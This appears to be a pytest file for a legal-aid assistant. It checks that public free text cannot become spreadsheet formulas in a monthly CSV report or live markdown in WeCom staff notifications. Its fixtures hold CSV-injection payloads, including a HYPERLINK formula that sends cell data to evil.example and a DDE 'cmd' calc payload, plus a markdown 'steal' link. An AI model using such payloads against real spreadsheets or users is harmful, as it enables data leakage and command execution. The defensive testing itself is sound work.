"""Free text from the public (a region answer, a ticket summary) must not become a spreadsheet
formula in the monthly-report CSV, a region of its own, or markdown (links, mentions, colours) in
the staff group's WeCom notifications. Real records database, real robot look-alike."""
from __future__ import annotations

import csv
import datetime as dt
import io
from datetime import datetime, timezone

import pytest

from assistant.eligibility.dialogue import EligibilityDialogue
from assistant.eligibility.regions import OTHER_REGION
from assistant.eligibility.standards import StandardsBook
from assistant.handoff.outbox import OutboxDispatcher
from assistant.records.csv_safe import safe_cell
from assistant.records.report import monthly_report, report_csv
from assistant.records.service import ConsultationRecords
from tests.handoff_helpers import Clock, WebhookReceiver, make_queue

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "＝1+1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_cell_gets_a_leading_apostrophe(text):
    assert safe_cell(text) == "'" + text


def test_ordinary_cells_and_numbers_stay_as_they_are():
    assert [safe_cell(v) for v in ("城关镇", "a=b", "2026-03", -3, 1.5, "")] == ["城关镇", "a=b", "2026-03", -3, 1.5, ""]


def test_no_region_in_the_monthly_csv_can_start_a_formula(records_engine):
    records = ConsultationRecords(records_engine)
    march = datetime(2026, 3, 5, 2, 0, tzinfo=timezone.utc)
    for n, text in enumerate(FORMULAS):
        records.record_turn(f"s{n}", channel="web", intent="statute_question", region=text, at=march)
    rows = list(csv.reader(io.StringIO(report_csv(monthly_report(records_engine, 2026, 3)), newline="")))
    regions = [row[1] for row in rows[2:-1]]      # two header rows: Chinese names, then codes
    assert sorted(regions) == sorted("'" + t for t in FORMULAS)
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
    assert rows[-1][2] == str(len(FORMULAS))          # the 合计 numbers are still numbers


@pytest.mark.parametrize("answer", ['=HYPERLINK("http://evil.example","x")', "火星基地", "[点这里](http://x.cn)"])
def test_a_region_answer_the_table_does_not_know_is_stored_as_other_region(answer):
    book = StandardsBook()
    dialogue = EligibilityDialogue(book, today=dt.date(2024, 9, 1))
    turn = dialogue.answer(dialogue.start("我能申请法律援助吗").state, "老板拖欠我工资")
    assert turn.asked == "region"
    turn = dialogue.answer(turn.state, answer)
    assert turn.state["facts"]["region"] == OTHER_REGION
    assert turn.asked != "region"                                  # not asked again
    assert book.snapshot().resolve(OTHER_REGION) is None           # the engine: no figures → staff check
    assert dialogue.answer(dialogue.answer(dialogue.start("我能申请法律援助吗").state, "老板拖欠我工资").state,
                           "上海").state["facts"]["region"] == "上海市"


def test_wecom_notification_shows_free_text_without_acting_on_it(records_engine):
    clock = Clock()
    summary = ('请看[材料](http://evil.example/steal) <@boss> <font color="warning">紧急</font>\n'
               "# 标题\n> 引用 **粗体** `代码` 电话13812345678")
    with WebhookReceiver() as robot:
        queue = make_queue(records_engine, clock, notify=True, mentions=["lin"],
                           public_base_url="https://fayuan.example.gov.cn")
        ticket = queue.open("md1", trigger="urgent_risk", service="法律援助", priority="urgent",
                            region="<@all>[x](http://e.cn)", summary=summary, facts={}, channel="web",
                            user_ref="md1")
        dispatcher = OutboxDispatcher(records_engine, robot.url)
        assert dispatcher.dispatch_due(clock.now).sent == 1
        dispatcher.close()
    content = robot.calls[0]["markdown"]["content"]
    assert content.count("](") == 1 and f"[打开工单](https://fayuan.example.gov.cn/console/tickets/{ticket.id})" in content
    assert content.count("<@") == 1 and "<@lin>" in content           # only the configured mention
    assert content.count("<font") == 1                                 # only the priority colour
    assert "\n#" not in content.split("摘要：", 1)[1] and "\n>" not in content.split("摘要：", 1)[1]
    assert "**" not in content and "`" not in content and "13812345678" not in content
    assert "材料" in content and "evil.example" in content             # still readable for staff
